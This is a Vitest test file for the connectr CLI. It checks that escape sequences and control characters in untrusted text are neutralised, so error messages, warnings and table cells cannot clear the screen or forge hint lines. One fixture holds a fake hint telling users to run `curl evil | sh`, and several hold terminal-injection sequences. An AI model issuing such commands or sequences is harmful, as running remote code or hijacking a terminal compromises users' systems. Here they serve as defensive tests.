import { describe, expect, it } from 'vitest';
import { escapeControls, escapeJson, escapeLine, escapeMessage, escapeStyled } from '../../src/cli/escape.js';
import { ConnectrError } from '../../src/core/errors.js';
import { reportError } from '../../src/cli/main.js';
import { createOutput, table } from '../../src/cli/output.js';
import { testIO } from '../helpers/io.js';

/** Issue #7 point 12: text from elsewhere never drives the terminal nor fakes connectr's lines. */
describe('control characters in printed text', () => {
  it('are shown escaped, tabs and newlines kept', () => {
    expect(escapeControls('a\u001b[2Jb\u0007c\u009bd\re\tf\ng\u202eh\u007f')).toBe(
      'a\\x1b[2Jb\\x07c\\x9bd\\re\tf\ng\\u202eh\\x7f',
    );
    expect(escapeLine('one\ntwo')).toBe('one\\ntwo');
    expect(escapeMessage('bad\r\n  hint: fake')).toBe('bad\\r\\n  hint: fake');
  });

  it("keep connectr's own colours only when colour is on", () => {
    expect(escapeStyled('\u001b[2mdim\u001b[22m \u001b]0;title\u0007', true)).toBe(
      '\u001b[2mdim\u001b[22m \\x1b]0;title\\x07',
    );
    expect(escapeStyled('\u001b[2mdim\u001b[22m', false)).toBe('\\x1b[2mdim\\x1b[22m');
  });

  it('in JSON stay the same value', () => {
    const json = escapeJson(JSON.stringify({ m: 'a\u001b\u009b\u202e' }));
    expect(json).toBe('{"m":"a\\u001b\\u009b\\u202e"}');
    expect(JSON.parse(json)).toEqual({ m: 'a\u001b\u009b\u202e' });
  });

  it('in an error cannot clear the screen or start a hint line of their own', () => {
    const io = testIO();
    const code = reportError(
      new ConnectrError('upstream', 'API answered 400: \u001b[2J\u001b[Hgone\nhint: run `curl evil | sh`', {
        details: ['detail \u001b[31mred\nhint: also fake'],
        hint: 'the real hint\u0007',
      }),
      io,
      {},
    );
    expect(code).toBe(4);
    expect(io.err()).toBe(
      [
        'error: API answered 400: \\x1b[2J\\x1b[Hgone\\nhint: run `curl evil | sh`',
        '  detail \\x1b[31mred\\nhint: also fake',
        'hint: the real hint\\x07',
        '',
      ].join('\n'),
    );
    expect(
      io
        .err()
        .split('\n')
        .filter((l) => l.startsWith('hint:')),
    ).toHaveLength(1);
  });

  it('in warnings, info lines, results and table cells are escaped', () => {
    const io = testIO({ tty: true, color: true });
    const out = createOutput(io, false);
    out.warn('file \u001b]0;pwned\u0007\nhint: fake');
    out.info(`${out.style.dim('retry')} \u001b[2J`);
    out.line('name\u001b[8m');
    expect(io.err()).toBe(
      '\u001b[33mwarning:\u001b[39m file \\x1b]0;pwned\\x07\\nhint: fake\n\u001b[2mretry\u001b[22m \\x1b[2J\n',
    );
    expect(io.out()).toBe('name\\x1b[8m\n');
    const plain = table([{ a: 'x\u001b[2J\ny' }], [{ header: 'A', value: (r) => r.a }], 80, out.style);
    expect(plain.split('\n')[1]).toBe('x\\x1b[2J\\ny');
  });

  it('an internal ConnectrError shows the bug hint, like an error connectr did not expect', () => {
    const io = testIO();
    const code = reportError(
      new ConnectrError('internal', 'state \u001b[2Jlost', { hint: 'ignored' }),
      io,
      {},
    );
    expect(code).toBe(1);
    expect(io.err()).toBe(
      'error: internal error: state \\x1b[2Jlost\nhint: this is a bug in connectr; run again with CONNECTR_DEBUG=1 and report the output\n',
    );
    const debug = testIO();
    reportError(new ConnectrError('internal', 'state lost'), debug, { CONNECTR_DEBUG: '1' });
    expect(debug.err()).toMatch(/^error: internal error: state lost\nConnectrError: state lost\n\s+at /);
  });
});
